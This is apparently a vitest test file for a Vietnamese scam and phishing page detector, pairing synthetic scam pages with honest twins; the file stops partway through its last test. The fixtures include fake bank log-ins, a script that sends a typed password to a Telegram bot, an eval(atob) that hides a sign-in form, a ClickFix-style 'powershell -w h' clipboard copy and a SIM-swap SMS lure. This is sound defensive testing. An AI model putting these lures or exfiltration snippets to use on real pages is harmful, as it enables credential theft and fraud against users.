import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { AskKind } from "../../../../src/core/evidence/ask-kinds.ts";
import type { ClaimPlace } from "../../../../src/core/evidence/claim.ts";
import { isAsking } from "../../../../src/core/evidence/is-asking.ts";
import { decide } from "../../../../src/core/evidence/judge-page.ts";
import type { PageFacts } from "../../../../src/core/evidence/page-facts.ts";
import { anyText } from "../../any-text.ts";
import { brands, field, page, verdictOn } from "./pages.ts";

const PASSWORD = field("Mật khẩu", { type: "password", hint: "mk" });
const OTP = field("Mã OTP", { hint: "otp" });
const CARD = [field("Số thẻ"), field("MM/YY"), field("CVV", { type: "password" })];

/** A bank's log-in page as a kit makes it, on a host that says nothing. */
const KIT: Partial<PageFacts> = {
  title: "VIB - Đăng nhập MyVIB",
  marks: [{ text: "MyVIB", linksTo: "" }],
  banner: "MyVIB",
  closing: "© 2026 Ngân hàng Quốc tế VIB",
  fields: [field("Tên đăng nhập"), PASSWORD, OTP],
  text: "Tài khoản sẽ bị khóa trong 24 giờ nếu không xác thực.",
};

/** What is found on a page that asks for a password on a host that says nothing. */
function featuresOf(given: Partial<PageFacts>): string {
  const facts = page("https://hoso-9912.example.com/", { fields: [PASSWORD], ...given });
  return verdictOn(facts).features.join(" ");
}

const pairs: [string, PageFacts, "block" | "warn", PageFacts][] = [
  [
    "IDENTITY: a borrowed name in title, logo and copyright line",
    page("https://qx81.example.com/", KIT),
    "block",
    page("https://hoada.example.com/", {
      ...KIT,
      title: "Hoa Đá - Đăng nhập",
      marks: [{ text: "Hoa Đá", linksTo: "" }],
      banner: "Hoa Đá",
      closing: "© 2026 Hoa Đá. Thanh toán qua VIB",
    }),
  ],
  [
    "IDENTITY: a brand's name alone above the fields, on a site with a name of its own",
    page("https://binhchon-beyeu2026.example.com/", {
      title: "Bé Yêu 2026",
      banner: "Bé Yêu 2026",
      headings: ["Facebook"],
      forms: [{ action: "/fb", around: "Facebook | Mật khẩu | Đăng nhập" }],
      fields: [field("Email"), { ...PASSWORD, form: 0 }],
      text: "Bình chọn cho bé Yêu. Đăng nhập Facebook để bình chọn.",
    }),
    "warn",
    page("https://binhchon-beyeu2026.example.com/", {
      title: "Bé Yêu 2026",
      banner: "Bé Yêu 2026",
      headings: ["Đăng nhập"],
      forms: [
        {
          action: "/login",

          around: "Bé Yêu 2026 | Mật khẩu | Đăng nhập với Facebook",
        },
      ],
      fields: [field("Email"), { ...PASSWORD, form: 0 }],
      text: "Bình chọn cho bé Yêu.",
    }),
  ],
  [
    "IDENTITY: the name of an office of the state that no brand has",
    page("https://hs-9912.example.com/", {
      title: "Viện kiểm sát nhân dân - Kê khai",
      banner: "VIỆN KIỂM SÁT NHÂN DÂN TỐI CAO",
      fields: [field("Số CCCD"), field("Mật khẩu ngân hàng điện tử", { type: "password" })],
      text: "Lệnh bắt tạm giam. Tuyệt đối giữ bí mật, không tiết lộ với người thân.",
    }),
    "block",
    page("https://tapchiluat.example.com/", {
      title: "Viện kiểm sát nhân dân cấp nào được ra lệnh bắt? - Tạp chí Luật",
      banner: "Tạp chí Luật",
      fields: [field("Email nhận bản tin", { type: "email" })],
      text: "Lệnh bắt tạm giam phải có phê chuẩn. Kẻ gian mạo danh dọa bắt, yêu cầu giữ bí mật.",
      paragraphs: 6,
      hasArticle: true,
    }),
  ],
  [
    "ASK: a wallet's twelve words",
    page("https://restore-w.example.com/", {
      title: "Trust Wallet – Restore",
      marks: [{ text: "Trust Wallet", linksTo: "" }],
      fields: Array.from({ length: 12 }, (_, i) => field(`${i + 1}.`)),
      text: "Your wallet has been limited. Restore access immediately.",
    }),
    "block",
    page("https://viblog.example.com/", {
      title: "Trust Wallet là gì?",
      text: "Cụm từ khôi phục gồm 12 từ. Không nhập cụm từ này vào website.",
      paragraphs: 8,
      hasArticle: true,
    }),
  ],
  [
    "ASK: a package to install past the phone's warnings",
    page("https://dl-77.example.com/", {
      title: "VNeID",
      marks: [{ text: "VNeID", linksTo: "" }],
      packages: ["https://dl-77.example.com/vneid.apk"],
      text: "Nếu máy báo nguồn không xác định, chọn Cho phép cài đặt.",
    }),
    "block",
    page("https://f-droid.example.com/", {
      title: "Trình ghi chú mở",
      packages: ["https://f-droid.example.com/notes.apk"],
      text: "Bản phát hành 2.1, mã nguồn mở.",
    }),
  ],
  [
    "SINK: what is typed goes to Telegram",
    page("https://a7.example.com/", {
      title: "Zalo",
      marks: [{ text: "Zalo", linksTo: "" }],
      fields: [field("Số điện thoại"), PASSWORD],
      script: "fetch('https://api.telegram.org/bot1:x/sendMessage',{method:'POST',body:p.value})",
    }),
    "block",
    page("https://docs-bot.example.com/", {
      title: "Gửi tin nhắn Telegram bằng JavaScript",
      fields: [field("chat_id"), field("Token")],
      script: "fetch('https://api.telegram.org/bot1:x/sendMessage',{method:'POST'})",
      codeLength: 900,
    }),
  ],
  [
    "CONCEAL: words broken up by unseen characters, and a password field in disguise",
    page("https://b2.example.com/", {
      title: "SHB‌ On​line",
      marks: [{ text: "S​HB", linksTo: "" }],
      fields: [field("Mật kh​ẩu", { masked: true })],
      text: "Đăn​g nhậ​p tà​i kh​oản củ​a bạ​n",
    }),
    "block",
    page("https://vandan.example.com/", {
      title: "Vạn Dân – Đăng nhập",
      marks: [{ text: "Vạn Dân", linksTo: "" }],
      fields: [field("Mã thẻ thư viện", { masked: true })],
      text: "Đăng nhập bạn đọc",
    }),
  ],
  [
    "CONCEAL: a form packed in base64",
    page("https://c3.example.com/", {
      title: "OneDrive",
      marks: [{ text: "Microsoft", linksTo: "" }],
      script: `eval(atob("${btoa(`document.body.innerHTML='<form action=/s><h2>Sign in</h2><input name=e placeholder=Email><label>Password<input name=p type=password></label><button>Next</button></form>'`)}"))`,
    }),
    "block",
    page("https://anhdep.example.com/", {
      title: "Ảnh đẹp",
      script: `img.src="data:image/png;base64,${"iVBORw0KGgoAAAANSUhEUgAAAAUA".repeat(9)}"`,
    }),
  ],
  [
    "TEXT: a guaranteed return together with a deposit",
    page("https://quykimcuong.example.com/", {
      title: "Quỹ Kim Cương – lợi nhuận 3%/ngày",
      fields: [field("Số điện thoại"), PASSWORD],
      text: "Cam kết lãi mỗi ngày, bảo toàn vốn 100%. Nạp tiền qua ngân hàng. Chỉ còn 5 suất. Nhắn Telegram để vào nhóm.",
    }),
    "warn",
    page("https://nganhangso.example.com/", {
      title: "Lãi suất tiết kiệm tháng này",
      fields: [field("Số tiền gửi"), field("Số điện thoại")],
      text: "Lãi suất 4,7%/năm. Nhận tư vấn miễn phí.",
    }),
  ],
  [
    "HOST: a page in the folders of somebody else's site",
    page("https://truongmam.edu.vn/wp-content/uploads/x/", {
      title: "DHL Express",
      marks: [{ text: "DHL", linksTo: "" }],
      fields: CARD,
      text: "Thanh toán phí",
    }),
    "block",
    page("https://cuahanghoa.vn/thanh-toan", {
      title: "Cửa hàng Hoa – Thanh toán",
      banner: "Cửa hàng Hoa",
      marks: [
        { text: "Visa", linksTo: "" },
        { text: "DHL", linksTo: "dhl.com" },
      ],
      fields: CARD,
      text: "Giao bằng DHL. Hóa đơn VAT. Đổi trả trong 7 ngày.",
    }),
  ],
  [
    "IDENTITY: a brand as a picture, with a code to pay by",
    page("https://tt-81.example.com/", {
      title: "Thanh toán",
      marks: [
        { text: "Shopee Guarantee", linksTo: "" },
        { text: "QR", linksTo: "" },
      ],
      text: "Đặt cọc đảm bảo đơn hàng 3.200.000đ. Số tiền sẽ hoàn lại trong 5 phút",
    }),
    "warn",
    page("https://hoanangxuan.example.com/don/22", {
      title: "Thanh toán đơn 22",
      marks: [
        { text: "Hoa Nàng Xuân", linksTo: "" },
        { text: "QR", linksTo: "" },
      ],
      text: "Techcombank 19036 222 333 NGUYEN THI XUAN. Hết hạn sau 15 phút",
    }),
  ],
  [
    "IDENTITY: an organisation's name above a person's account",
    page("https://chungtay.example.com/", {
      title: "Hội Chữ thập đỏ Việt Nam – Ủng hộ đồng bào",
      banner: "HỘI CHỮ THẬP ĐỎ VIỆT NAM",
      text: "Chuyển khoản ngay! Ví MoMo 0909 887 112 – TRAN QUANG HUY (thủ quỹ)",
    }),
    "block",
    page("https://quyuocmo.example.com/", {
      title: "Quỹ Ước Mơ",
      banner: "Quỹ Ước Mơ",
      text: "Cùng Hội Chữ thập đỏ Việt Nam. Tài khoản: 0011 0044 5566 Vietcombank – QUY HOC BONG UOC MO. Sao kê công khai.",
    }),
  ],
  [
    "ASK: a secret that a bank alone may know, to pay money out",
    page("https://hoanphi.example.com/", {
      title: "Hoàn học phí",
      fields: [field("Số tài khoản nhận tiền"), PASSWORD, OTP],
      text: "Sinh viên được hoàn 3.200.000đ. Nhận tiền ngay hôm nay.",
    }),
    "warn",
    page("https://hoahongminh.example.com/", {
      title: "Hoa Hồng Minh – Cộng tác viên",
      banner: "Hoa Hồng Minh",
      fields: [field("Số tài khoản nhận hoa hồng"), PASSWORD],
      text: "Công ty TNHH Hoa Hồng Minh, MST 0312345678. Đối soát mỗi tháng.",
    }),
  ],
  [
    "SINK: a password that goes into a sheet",
    page("https://mail-q.example.com/", {
      title: "Webmail",
      fields: [field("Email"), PASSWORD],
      forms: [{ action: "https://formspree.io/f/x", around: "" }],
      text: "Hộp thư của bạn đã đầy 99%. Xác nhận mật khẩu để tiếp tục.",
    }),
    "warn",
    page("https://clbguitar.example.com/", {
      title: "Đăng ký CLB Guitar",
      fields: [field("Họ tên"), field("Số điện thoại", { type: "tel" })],
      forms: [{ action: "https://formspree.io/f/x", around: "" }],
      text: "Hạn đăng ký trong hôm nay",
    }),
  ],
  [
    "HOST: a borrowed name in the address alone, and a password",
    page("https://vietcombank-hotro.example.com/", {
      title: "Đăng nhập",
      fields: [field("Tên đăng nhập"), PASSWORD, OTP],
    }),
    "warn",
    page("https://vietcombank-hotro.example.com/", {
      title: "Tin tức",
      fields: [field("Email", { type: "email" })],
    }),
  ],
  [
    "TEXT: too cheap, all at once, to a person, by nobody",
    page("https://combo-dn.example.com/", {
      title: "Combo Đà Nẵng 4N3Đ giá sốc",
      fields: [field("Zalo")],
      text: "Chỉ hôm nay, vé nội bộ giảm 70%, thanh toán 100% giữ giá. VO MINH TRI 9704 0511 222 MB",
    }),
    "warn",
    page("https://hoangkimhotel.example.com/", {
      title: "Khách sạn Hoàng Kim",
      banner: "Hoàng Kim Hotel",
      fields: [field("Số điện thoại")],
      text: "Ưu đãi giờ chót 990k. Cọc 50% qua 060 123 456 789 Sacombank NGUYEN HOANG KIM. Hủy miễn phí.",
    }),
  ],
  [
    "TEXT: pay to work",
    page("https://app-hd.example.com/", {
      title: "HD Global",
      linkHosts: ["t.me"],
      text: "Bạn đang ở chuỗi nhiệm vụ 3/5. Cần bù 4.680.000 để tiếp tục, hoàn tất nhận hoa hồng 30%.",
    }),
    "warn",
    page("https://nongsanlang.example.com/", {
      title: "Tuyển cộng tác viên bán nông sản",
      banner: "Nông Sản Làng",
      fields: [field("Zalo")],
      text: "Chiết khấu 25%, không ôm hàng, hoa hồng trả hằng tuần.",
    }),
  ],
  [
    "CONCEAL: an alarm about viruses that does not let go, whatever its host is called",
    page("https://canh-bao-24h.example.com/", {
      title: "Cảnh báo bảo mật Windows",
      banner: "Cảnh báo bảo mật Windows",
      script: "documentElement.requestFullscreen();onbeforeunload=()=>1;",
      text: "Máy tính của bạn đã bị nhiễm 5 virus. Không tắt máy. Gọi ngay hỗ trợ kỹ thuật 1900 0000.",
    }),
    "warn",
    page("https://suamaytinh.example.com/", {
      title: "Diệt virus, sửa máy tính tại nhà",
      banner: "Sửa Máy Tính Hoa Đá",
      text: "Máy tính bị nhiễm virus, chạy chậm? Gọi ngay 1900 0000, có mặt trong 30 phút, bảo hành 6 tháng.",
    }),
  ],
  [
    "ASK: a command to paste, to prove to be human",
    page("https://tai-lieu-77.example.com/", {
      title: "Xác minh bạn là con người",
      text: "Tôi không phải là người máy\nNhấn giữ ⊞ Windows + R\nNhấn Ctrl + V rồi Enter",
      script: "t.value='pow'+'ershell -w h';document.execCommand('copy')",
    }),
    "warn",
    page("https://meomaytinh.example.com/", {
      title: "Mở Command Prompt",
      text: "Nhấn Windows + R, gõ cmd rồi Enter. Sao chép lệnh ipconfig bằng nút bên cạnh.",
      script: "copy.onclick=()=>navigator.clipboard.writeText('ipconfig')",
    }),
  ],
  [
    "ASK: a message that hands the reader's number to another SIM",
    page("https://esim-5g.example.com/", {
      title: "Viettel – Nâng cấp eSIM 5G miễn phí",
      marks: [{ text: "Viettel", linksTo: "" }],
      text: "Nâng cấp ngay hôm nay. Soạn tin DS 8984048001234567891 gửi 901, sau đó khởi động lại máy.",
    }),
    "block",
    page("https://simhoada.example.com/", {
      title: "Gói cước Viettel – Sim Hoa Đá",
      banner: "Sim Hoa Đá",
      marks: [{ text: "Viettel", linksTo: "" }],
      text: "Soạn V120N gửi 290 để đăng ký. Đổi SIM 4G: soạn DS [16 số cuối trên SIM mới] gửi 191. Gọi 0900 000 123.",
    }),
  ],
  [
    "CONCEAL: words that a style turns round, above a card's form",
    page("https://nop-31.example.com/", {
      title: "Tra cứu",
      fields: [field("", { hint: "t ẻht ốS" }), field("3 số mặt sau")],
      text: "Trong hôm nay ỏđ nèđ tợưv. tạhp pộn ảhp iảhP",
      script: "// bidi-override",
    }),
    "warn",
    page("https://hoada.vn/lien-he", {
      title: "Hoa Đá – Liên hệ",
      banner: "Hoa Đá",
      fields: [field("Họ tên"), field("Số điện thoại", { type: "tel" })],
      text: "Thư: nv.adaoh@iahn",
      script: "// bidi-override",
    }),
  ],
  [
    "IDENTITY: a game's name beside a password, on a shop that sells its accounts",
    page("https://lienquan-sukien.example.com/", {
      title: "Liên Quân Mobile – nhận skin",
      marks: [{ text: "Garena Liên Quân", linksTo: "" }],
      fields: [field("Số điện thoại"), PASSWORD],
      text: "Nhận skin miễn phí trong hôm nay",
    }),
    "block",
    page("https://shopacclienquan.vn/", {
      title: "Shop acc Liên Quân – Tí Gaming",
      marks: [{ text: "Tí Gaming", linksTo: "" }],
      headings: ["Mua acc Liên Quân"],
      fields: [field("Tài khoản"), PASSWORD],
      text: "Acc trắng thông tin, bảo hành trọn đời",
    }),
  ],
  [
    "IDENTITY: a brand's agent who asks for no more than a telephone number",
    page("https://lapmangviettelhanoi.net/", {
      title: "Viettel – xác thực thuê bao",
      marks: [{ text: "Viettel", linksTo: "" }],
      fields: [field("Số điện thoại", { type: "tel" })],
      text: "Thuê bao sẽ bị khóa hai chiều trong 24 giờ",
    }),
    "warn",
    page("https://lapmangviettelhanoi.net/", {
      title: "Lắp mạng Viettel Hà Nội",
      marks: [{ text: "Viettel Hà Nội", linksTo: "" }],
      fields: [field("Số điện thoại", { type: "tel" })],
      text: "Tặng 2 tháng cước, miễn phí lắp đặt. Khuyến mãi trong hôm nay",
    }),
  ],
  [
    "IDENTITY: an office of the state alone at the head of a page that gives out a package",
    page("https://dulieu-88.example.com/", {
      title: "Cổng dữ liệu dân cư",
      banner: "BỘ CÔNG AN",
      packages: ["https://dulieu-88.example.com/dancu.apk"],
      text: "Dữ liệu của bạn sai lệch sau sáp nhập. Cài ứng dụng để cập nhật.",
    }),
    "warn",
    page("https://bantinphuong.example.com/", {
      title: "Bản tin phường",
      banner: "Bản tin phường, theo thông báo của Bộ Công an",
      packages: ["https://bantinphuong.example.com/bantin.apk"],
      text: "Ứng dụng đọc tin của phường.",
    }),
  ],
  [
    "TEXT: a threat with a person's account, and a report of such",
    page("https://pccc-kiemtra.example.com/", {
      title: "Đăng ký tập huấn",
      text: "Chuyển khoản 800.000đ: MB 0999 000 111 NGUYEN VAN HUNG trước 17h hôm nay, nếu không sẽ bị xử phạt.",
    }),
    "warn",
    page("https://baotinhhinh.vn/bat-nhom-lua-dao.html", {
      title: "Bắt nhóm lừa đảo - Báo Tình Hình",
      banner: "Báo Tình Hình",
      fields: [field("Email"), PASSWORD],
      text: "Công an vừa khởi tố vụ án, nhóm này hướng dẫn nạp tiền làm nhiệm vụ để hưởng hoa hồng 20% mỗi đơn.\nNạn nhân chị H. chuyển khoản vào tài khoản 0123 456 789 MB, muốn rút tiền phải nộp thêm thuế 10%, nếu không sẽ bị khóa tài khoản.",
    }),
  ],
  [
    "CONTEXT: who asks about a scam is none",
    page("https://thuhoi-24.example.com/", {
      title: "Lấy lại tiền bị lừa",
      fields: [field("Zalo")],
      text: "Hỗ trợ thu hồi tiền treo trong 24 giờ, đóng phí hồ sơ 5%. Không báo công an.",
    }),
    "warn",
    page("https://diendan.example.com/", {
      title: "Dịch vụ lấy lại tiền bị lừa, có lừa đảo không?",
      fields: [field("Tên đăng nhập"), PASSWORD],
      text: "Họ bảo thu hồi tiền treo trong 24 giờ, đóng phí hồ sơ 5%. Bác nào dính chưa?",
    }),
  ],
];

describe("each family of evidence, and its honest twin", () => {
  test.each(pairs)("%s", (_, scam, level, twin) => {
    expect(isAsking(scam)).toBe(true);
    expect(verdictOn(scam)).toMatchObject({ level });
    expect(verdictOn(twin)).toMatchObject({ level: "none", reasons: [] });
  });
});

describe("the rule above the weights", () => {
  test("words alone never accuse, however many", () => {
    const words =
      "Lệnh bắt bị can, phong tỏa tài khoản trong 2 giờ. Trúng thưởng iPhone. Cam kết lãi 30%/tháng, bảo toàn vốn. Việc nhẹ lương cao. Giữ bí mật. Nộp phí giải ngân. Duyệt 100%, nợ xấu.";
    expect(verdictOn(page("https://a.example.com/", { text: words }))).toMatchObject({
      level: "none",
    });
  });

  test("a name and an ask without a third witness only warn", () => {
    const verdict = verdictOn(page("https://z1.example.com/", { ...KIT, text: "" }));
    expect(verdict.families).toEqual(["identity", "ask"]);
    expect(verdict.level).toBe("warn");
  });

  test("a name without an ask is nothing", () => {
    expect(verdictOn(page("https://z1.example.com/", { ...KIT, fields: [] }))).toMatchObject({
      level: "none",
    });
  });

  test("an ask under the site's own name is nothing", () => {
    const own = { title: "Moon Farm", banner: "Moon Farm", fields: [PASSWORD, OTP] };
    expect(verdictOn(page("https://moonfarm.example.com/", own))).toMatchObject({ level: "none" });
  });
});

test("official sites of all brands are never accused, whatever they ask", () => {
  for (const brand of brands.all) {
    for (const domain of brand.domains) {
      if (domain.includes("*") || brand.userContent.length > 0) continue;
      const { level } = verdictOn(
        page(`https://www.${domain}/`, { ...KIT, title: brand.name, banner: brand.name }),
      );
      expect([domain, level]).toEqual([domain, "none"]);
    }
  }
});

test("a site's own name outweighs every brand that it sells, repairs or writes about", () => {
  for (const { name } of brands.all) {
    const facts = page("https://hoada.example.com/", {
      title: `${name} – Hoa Đá`,
      banner: "Hoa Đá",
      marks: [{ text: "Hoa Đá", linksTo: "" }],
      headings: [name],
      fields: [field("Họ tên"), field("Số điện thoại", { type: "tel" }), PASSWORD],
      text: `${name}. Liên hệ Hoa Đá để được tư vấn.`,
    });
    expect([name, verdictOn(facts).level]).toEqual([name, "none"]);
  }
});

test("without a name of its own the same page is warned of", () => {
  const facts = page("https://qx81.example.com/", {
    title: "Techcombank",
    headings: ["Techcombank"],
    fields: [field("Số điện thoại", { type: "tel" }), PASSWORD],
    text: "Techcombank.",
  });
  expect(verdictOn(facts).level).toBe("warn");
});

test("a bank beside an account number is where the money goes, not who asks", () => {
  const verdict = verdictOn(
    page("https://shop-82.example.com/", {
      marks: [{ text: "Vietcombank", linksTo: "" }],
      text: "Chuyển khoản: 0071 000 888 222 Vietcombank",
    }),
  );
  expect(verdict.features.join(" ")).not.toContain("identity:");
});

test("whoever only mentions somebody is warned of, whoever bears the name is blocked", () => {
  const levelOf = (places: ClaimPlace[]) =>
    decide(
      {
        identity: {
          brand: brands.named("Vietcombank"),
          name: "Vietcombank",
          places: new Set(places),
          strength: 2,
        },
        asks: new Set<AskKind>(["transfer", "password"]),
        sinks: new Map(),
        conceals: new Set(),
        pressures: new Map([["private-account", 1]]),
        hostSigns: [],
        context: new Set(),
        families: ["identity", "ask", "text"],
        features: [],
      },
      0.99,
      { warnAt: 0.5, blockAt: 0.9 },
    );
  expect(levelOf(["title-mention", "heading", "words"])).toBe("warn");
  expect(levelOf(["heading", "logo"])).toBe("block");
});

test("banks in the foot of a shop are ways to pay, however few", () => {
  const shop: Partial<PageFacts> = {
    title: "Gom đơn album lần 3 - FC Nắng Mai",
    fields: [field("Email"), PASSWORD],
    text: "MB Bank STK: 0377 2219 004. Chủ TK: HA THUY TIEN. Cọc 50 %, chuyển khoản trước.",
    marks: ["TPBank", "VietinBank", "BIDV"].map((text) => ({ text, linksTo: "", inFoot: true })),
  };
  const facts = page("https://fansub-nm.example.com/", shop);
  expect(verdictOn(facts).features.join(" ")).not.toContain("identity:");
  const alone = { ...shop, marks: [{ text: "TPBank", linksTo: "", inFoot: true }] };
  expect(verdictOn(page("https://fansub-nm.example.com/", alone)).features).toContain(
    "identity:logo",
  );
});

test("a club of finance is no ministry, and a code that comes by a messenger is not the messenger's", () => {
  expect(featuresOf({ banner: "Câu lạc bộ Tài chính" })).not.toContain("identity:");
  expect(featuresOf({ banner: "Bộ Tài chính" })).toContain("identity:");
  const code = (label: string) => featuresOf({ fields: [field(label, { hint: "otp" })] });
  expect(code("Mã OTP gửi qua Zalo")).not.toContain("identity:form");
  expect(code("Mã OTP Zalo")).toContain("identity:form");
});

test("an app that makes codes, and who vouches for a log-in, are not who asks", () => {
  const asked = (label: string) =>
    featuresOf({ fields: [field("Tên tài khoản"), PASSWORD, field(label, { hint: "otp" })] });
  expect(asked("Mã một lần (Google Authenticator)")).not.toContain("identity:");
  expect(asked("Mã một lần Google")).toContain("identity:form");
  expect(asked("Đăng nhập bằng GitHub")).not.toContain("identity:");
  expect(asked("Mật khẩu GitHub")).toContain("identity:form");
});

test("an office under the one above it heads its own pages; a headline and a school below offices do not", () => {
  const CLAIMS = "pair:name-and-secret";
  expect(featuresOf({ banner: "CỤC THUẾ – BỘ TÀI CHÍNH HỆ THỐNG HOÀN THUẾ TỰ ĐỘNG" })).toContain(
    CLAIMS,
  );
  expect(featuresOf({ banner: "BỘ CÔNG AN CƠ QUAN CẢNH SÁT ĐIỀU TRA (C03)" })).toContain(CLAIMS);
  expect(
    featuresOf({ banner: "UBND THÀNH PHỐ – SỞ GIÁO DỤC Trường THPT Nguyễn Trãi" }),
  ).not.toContain(CLAIMS);
  const mark = (text: string) => featuresOf({ marks: [{ text, linksTo: "" }] });
  expect(mark("Cục Thuế cảnh báo giả mạo eTax Mobile")).not.toContain(CLAIMS);
  expect(mark("Cục Thuế - Hoàn thuế cá nhân")).toContain(CLAIMS);
});

describe("a long page presses by what stands where it asks", () => {
  const PRESSING = "Tài khoản sẽ bị khóa trong 24 giờ. Bạn đã trúng thưởng, nhận quà ngay.";
  const PROSE = Array.from(
    { length: 40 },
    (_, i) => `Điều ${i} nói về giờ mở cửa, chỗ gửi xe và lối đi.`,
  );
  const long = (...lines: string[]) =>
    verdictOn(
      page("https://ve-hoa-nhac.example.com/", {
        fields: [field("Số thẻ")],
        forms: [{ action: "", around: "Mua vé | Số thẻ" }],
        text: lines.join("\n"),
      }),
    ).features.join(" ");

  test("not by what stands far from it", () => {
    expect(long(...PROSE, ...PROSE, PRESSING, ...PROSE)).not.toMatch(/text:(?:threat|prize)/);
  });

  test("but by its beginning, and beside an account, and a short page by all of it", () => {
    expect(long(PRESSING, ...PROSE, ...PROSE)).toMatch(/text:threat.*text:prize/);
    const account = "Chuyển phí vào 0123 456 789 (MB)";
    expect(long(...PROSE, ...PROSE, PRESSING, account, ...PROSE)).toMatch(
      /text:threat.*text:prize/,
    );
    expect(long(...PROSE.slice(0, 20), PRESSING)).toMatch(/text:threat.*text:prize/);
  });
});

test("a school names the office above it, and an insurer is called alliance: neither claims to be another", () => {
  const mark = (text: string) => featuresOf({ marks: [{ text, linksTo: "" }] });
  expect(mark("Trường THPT Nguyễn Du. Sở Giáo dục và Đào tạo")).not.toContain("identity:");
  expect(mark("Sở Giáo dục và Đào tạo")).toContain("identity:office");
  expect(mark("Nhân thọ Liên Minh")).not.toContain("identity:");
  expect(mark("Liên Minh Huyền Thoại")).toContain("identity:logo");
});

test("a trade mark's sign is no letter of the name", () => {
  const facts = page("https://reservation-id48213.example.com/", {
    closing: "Copyright © 1996–2026 Booking.com™. All rights reserved.",
    fields: [field("Card number")],
  });
  expect(verdictOn(facts).features).toContain("identity:closing");
});

test("a brand's log-in among the uploads of somebody else's site is not that site's own", () => {
  const login: Partial<PageFacts> = {
    title: "Microsoft Outlook - Đồng Tiến",
    banner: "Trường THPT Đồng Tiến",
    headings: ["Microsoft"],
    fields: [field("Email"), PASSWORD],
    text: "Hộp thư sẽ bị khóa trong 24 giờ. Xác minh tài khoản ngay.",
  };
  const at = (path: string) =>
    verdictOn(page(`https://thuvien.thpt-dongtien.edu.vn${path}`, login)).level;
  expect(at("/wp-content/uploads/o365/vb-den.html")).not.toBe("none");
  expect(at("/dang-nhap")).toBe("none");
});

test("an account number and a host alone do not block", () => {
  const facts = page("https://vietcombank-atm.example.com/", {
    title: "Vietcombank",
    headings: ["Vietcombank"],
    text: "Vietcombank. Tài khoản 0071 000 888 222 Vietcombank",
  });
  expect(verdictOn(facts).level).not.toBe("block");
});

test("a charity's chapter may ask for gifts to its own account, also where its title is cut after the body's name", () => {
  const appeal = (chapter: string) =>
    page("https://chuthapdotinh.example.com/", {
      title: "Kêu gọi ủng hộ đồng bào vùng bão - Hội Chữ thập đỏ",
      banner: `Hội Chữ thập đỏ ${chapter}`,
      text: `Lời kêu gọi khẩn, cần gấp! Chuyển khoản: VietinBank, số tài khoản 117000112233, chủ tài khoản HỘI CHỮ THẬP ĐỎ ${chapter.toUpperCase()}`,
    });
  expect(verdictOn(appeal("thành phố Cần Thơ")).level).toBe("none");
  expect(verdictOn(appeal("Việt Nam")).level).not.toBe("none");
});

test("under a .vn name of its own, a page that takes money in a house's name is warned of, not blocked, unless it takes a secret", () => {
  const order = {
    title: "VinFast - Đặt cọc VF 3",
    marks: [{ text: "VinFast", linksTo: "" }],
    banner: "VinFast",
    closing: "© VinFast",
    text: "Tặng iPhone cho 9 khách đầu tiên, chỉ còn hôm nay. Cọc trước 15.000.000đ: Techcombank 1910 8800 2266",
  };
  expect(verdictOn(page("https://vinfastvungcao.vn/", order)).level).toBe("warn");
  expect(verdictOn(page("https://vinfastvungcao.top/", order)).level).toBe("block");
  expect(
    verdictOn(page("https://vinfastvungcao.vn/", { ...order, fields: [...CARD, OTP] })).level,
  ).toBe("block");
});

test.each([
  ["http://192.168.1.1/", "a router"],
  ["https://phuongx.hanoi.gov.vn/", "an office of the state"],
])("%s is left alone: %s", (address) => {
  expect(verdictOn(page(address, KIT)).level).toBe("none");
});

test("the verdict names the brand, its real site and the evidence", () => {
  const verdict = verdictOn(page("https://qx81.example.com/", KIT));
  expect(verdict).toMatchObject({ brand: "VIB", officialSite: "vib.com.vn" });
  expect(verdict.reasons).toContainEqual({ code: "page-identity", name: "VIB" });
  expect(verdict.reasons).toContainEqual(expect.objectContaining({ code: "page-asks" }));
});

describe("names written to be missed", () => {
  test.each([
    ["V I E T C O M B A N K"],
    ["Vietcоmbаnk"],
    ["Viet​com‌bank"],
    ["V1etc0mbank"],
    ["vietcombank-logo-2x"],
    ["NGÂN HÀNG NGOẠI THƯƠNG"],
    ["Ngan hang Ngoai thuong"],
  ])("%s", (name) => {
    const verdict = verdictOn(
      page("https://d4.example.com/", {
        title: name,
        marks: [{ text: name, linksTo: "" }],
        fields: [PASSWORD, OTP],
        text: "Tài khoản sẽ bị khóa",
      }),
    );
    expect(verdict).toMatchObject({ level: "block", brand: "Vietcombank" });
  });
});

test("an honest mention of many banks is no claim", () => {
  const verdict = verdictOn(
    page("https://sosanh.example.com/", {
      title: "So sánh Vietcombank, BIDV, Techcombank",
      headings: ["Vietcombank", "BIDV"],
      fields: [field("Số điện thoại"), field("Mật khẩu", { type: "password" })],
      text: "Vietcombank BIDV Techcombank VPBank ACB Sacombank lãi suất",
    }),
  );
  expect(verdict.level).toBe("none");
});

test("whatever a page holds, a verdict comes out", () => {
  const text = fc.oneof(anyText(), fc.constant("\ud800"), fc.string());
  fc.assert(
    fc.property(text, text, text, text, (title, label, script, words) => {
      const facts = page("https://e.example.com/", {
        title,
        banner: words,
        fields: [field(label, { type: "password" })],
        script,
        text: words,
        closing: title,
        marks: [{ text: label, linksTo: script }],
        forms: [{ action: script, around: words }],
      });
      expect(["none", "warn", "block"]).toContain(verdictOn(facts).level);
    }),
    { numRuns: 300 },
  );
});

test("a name made of the trade's own words is no name of a house, and a place's syllables are no lure", () => {
  const combo = {
    title: "Combo Phú Quốc giá rẻ",
    banner: "Combo Phú Quốc Giá Rẻ",
    fields: [field("Số Zalo")],
  };
  expect(verdictOn(page("https://combo-phuquoc-giare.com/", combo)).features).not.toContain(
    "context:named",
  );
  const school = {
    marks: [{ text: "TRƯỜNG ĐẠI HỌC BÌNH MINH", linksTo: "" }],
    fields: [field("Mã sinh viên"), PASSWORD],
  };
  expect(verdictOn(page("https://hocphi.daihocbinhminh.edu.vn/", school)).features).toEqual(
    expect.arrayContaining(["context:named", "context:registered"]),
  );
});

test("twelve numbered fields ask for a phrase, whatever else their hints say", () => {
  const fields = Array.from({ length: 12 }, (_, i) => field("", { hint: `off ${i + 1}` }));
  const { features } = verdictOn(page("https://claim-1.example.com/", { fields }));
  expect(features).toContain("ask:seed-phrase");
});

test("who makes programs for help from afar, and names them beside long numbers, wakes nobody", () => {
  const maker = {
    title: "TeamViewer – Remote Support",
    text: "TeamViewer 15.61.3. Gọi 1800 000 111. AnyDesk, RustDesk",
  };
  expect(isAsking(page("https://www.teamviewer.com/vi/", maker))).toBe(false);
  const trap = {
    title: "Hỗ trợ Windows",
    text: "Kỹ thuật viên sẽ truy cập máy qua AnyDesk. Gọi 1800 9999 00",
  };
